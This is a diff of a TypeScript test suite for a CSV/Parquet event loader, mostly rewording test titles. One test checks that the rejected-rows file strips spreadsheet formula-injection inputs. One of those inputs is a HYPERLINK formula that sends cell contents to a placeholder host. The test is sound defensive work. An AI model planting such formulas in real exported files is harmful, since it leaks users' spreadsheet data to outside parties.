@@ -41,7 +41,7 @@ describe('a path', () => {
     'x=y/brand=z/a.csv',
   ];
 
-  it.each(NAMES)('is taken as it stands: %s', async (name) => {
+  it.each(NAMES)('is used as it is: %s', async (name) => {
     const path = files.file(csv(row(0, 'own')), name);
     // Quotes make the loader use the slow parser.
     const quoted = addFile(join(dirname(path), 'quoted', name), csv(row(1, '"own"')));
@@ -53,17 +53,20 @@ describe('a path', () => {
     expect([await brands(store), output]).toEqual([['own', 'own'], expect.stringContaining('loaded')]);
   });
 
-  it.each(['sales[1].parquet', 'sales*.parquet', 'brand=folder/user_id=9/a.parquet'])('of Parquet too: %s', async (name) => {
-    const path = await parquet('own', name);
-    for (const sibling of ['sales1.parquet', 'sales2.parquet']) addFile(join(dirname(path), sibling), 'PAR1 no more');
-    const { store } = await files.load(path);
-    expect(await brands(store)).toEqual(['own']);
-    expect((await store.client.query('select user_id from events')).rows).toEqual([{ user_id: '1' }]);
-  });
+  it.each(['sales[1].parquet', 'sales*.parquet', 'brand=folder/user_id=9/a.parquet'])(
+    'of a Parquet file is used as it is: %s',
+    async (name) => {
+      const path = await parquet('own', name);
+      for (const sibling of ['sales1.parquet', 'sales2.parquet']) addFile(join(dirname(path), sibling), 'PAR1 no more');
+      const { store } = await files.load(path);
+      expect(await brands(store)).toEqual(['own']);
+      expect((await store.client.query('select user_id from events')).rows).toEqual([{ user_id: '1' }]);
+    },
+  );
 });
 
 describe('the file of rejected rows', () => {
-  it.each(['=HYPERLINK("http://x.test/?"&A1)', '+1', '-1', '@SUM(A1)'])('has no formula where a row begins with %s', async (formula) => {
+  it.each(['=HYPERLINK("http://x.test/?"&A1)', '+1', '-1', '@SUM(A1)'])('has no formula when a row starts with %s', async (formula) => {
     const { output } = await files.load(files.file(csv(`${formula},view,1,5,home,b,1.00,1,`), 'formula.csv'));
     const path = /with line and reason in (.*)\)\n/.exec(output)?.[1] ?? '';
     const [, record = ''] = readFileSync(path, 'utf8').split('\n');
@@ -73,7 +76,7 @@ describe('the file of rejected rows', () => {
 });
 
 describe('a folder for data', () => {
-  it('may have a name that is a pattern', async () => {
+  it('may have a pattern as its name', async () => {
     const store = await files.newStore();
     const first = files.file(csv(row(0, 'a')), 'a.csv');
     const second = files.file(csv(row(1, 'b').replace('2019-07', '2019-08')), 'b.csv');
@@ -86,7 +89,7 @@ describe('a folder for data', () => {
 describe('text', () => {
   const latin1 = Buffer.from(csv(row(0, 'caf\u00e9'), row(1, 'caf\u00e8')), 'latin1');
 
-  it('that is not UTF-8 is refused with its line, and loads once its encoding is named', async () => {
+  it('other than UTF-8 is rejected with its line, and loads with --encoding', async () => {
     const store = await files.newStore();
     const path = files.file(latin1);
     const refused = await runEtl(store.url, ['load', path]);
@@ -97,7 +100,7 @@ describe('text', () => {
     expect(await brands(store)).toEqual(['caf\u00e9', 'caf\u00e8']);
   });
 
-  it('is refused in NDJSON and Parquet likewise', async () => {
+  it('other than UTF-8 is rejected in NDJSON and Parquet too', async () => {
     const event = { event_time: '2019-07-01 00:00:00', event_type: 'view', product_id: 1, user_id: 1, brand: 'caf\u00e9' };
     const good = JSON.stringify({ ...event, brand: 'tea' });
     const ndjson = files.file(gzipSync(Buffer.from(`${good}\n${good}\n${JSON.stringify(event)}\n`, 'latin1')), 'events.ndjson.gz');
@@ -123,7 +126,7 @@ describe('text', () => {
     expect([await brands(store), output]).toEqual([['caf\u00e9 \u20ac'], expect.stringContaining('loaded')]);
   });
 
-  it('in UTF-16 without a mark is told as such', async () => {
+  it('in UTF-16 without a byte order mark gets a hint', async () => {
     expect((await files.load(files.file(Buffer.from(csv(row(0, 'a')), 'utf16le')))).output).toContain('--encoding utf-16le');
     const halved = Buffer.from(`\ufeff${csv(row(0, 'a'))}`, 'utf16le').subarray(0, -1);
     expect((await files.load(files.file(halved))).output).toContain('is not UTF-16LE text');
@@ -157,14 +160,14 @@ describe('words for a missing value', () => {
     expect(await values((await files.load(path)).store)).toEqual(none);
   });
 
-  it('mean missing in columns that an event must have: the row is rejected', async () => {
+  it('in required columns reject the row', async () => {
     const { output } = await files.load(
       files.file(csv('NULL,view,1,,,,,1,', '2019-09-01 00:00:00,view,NaN,,,,,1,', '2019-09-01 00:00:00,view,1,,,,,None,')),
     );
     for (const column of ['event_time', 'product_id', 'user_id']) expect(output).toContain(`1  ${column} is missing`);
   });
 
-  it('are names in quotes, and in JSON; a switch says otherwise for a whole file', async () => {
+  it('are names in quotes and in JSON, unless an option says otherwise', async () => {
     const named = ['None', 'NA', null];
     const bare = files.file(csv(...['None', 'NA', ''].map((brand, second) => row(second, brand))));
     const quoted = files.file(csv(...['None', 'NA', ''].map((brand, second) => row(second, `"${brand}"`))));
@@ -228,13 +231,13 @@ describe('delimiters and wrappers', () => {
   it.each([
     ['zero bytes', Buffer.alloc(700)],
     ['other bytes', Buffer.from('garbage')],
-  ])('a gzip file with %s after it is read', async (_, tail) => {
+  ])('a gzip file with trailing %s is read', async (_, tail) => {
     const { store, output, code } = await files.load(files.file(Buffer.concat([gzipSync(two), tail]), 'a.csv.gz'));
     expect([await brands(store), code]).toEqual([['a', 'b'], 0]);
     expect(output).toContain(`${tail.length} bytes after the gzip data were ignored`);
   });
 
-  it('files of another kind are named as what they are, packed or not', async () => {
+  it('unsupported files are named by their kind, gzipped or not', async () => {
     const kinds: [what: string, content: string][] = [
       ['a zip archive: unpack it first', 'PK\x03\x04 and more'],
       ['an Excel workbook (XLSX): save the sheet as CSV', 'PK\x03\x04\x14\0\x06\0[Content_Types].xml'],
@@ -261,7 +264,7 @@ describe('delimiters and wrappers', () => {
     expect([output, code]).toEqual([expect.stringContaining(`events.csv ${what}`), 1]);
   });
 
-  it('a Parquet file says which columns it has where one is missing, and does not mind their case', async () => {
+  it('a Parquet file may have columns in any case, and lists them when one is missing', async () => {
     const query = `select '2019-07-01 00:00:00' as "EVENT_TIME", 'view' as "Event_Type", 1 as "Product ID", 1 as category_id,
       null as category_code, 'own' as " BRAND ", 1.0 as price, 1 as user_id, null as user_session`;
     expect(await brands((await files.load(await files.parquet(query))).store)).toEqual(['own']);
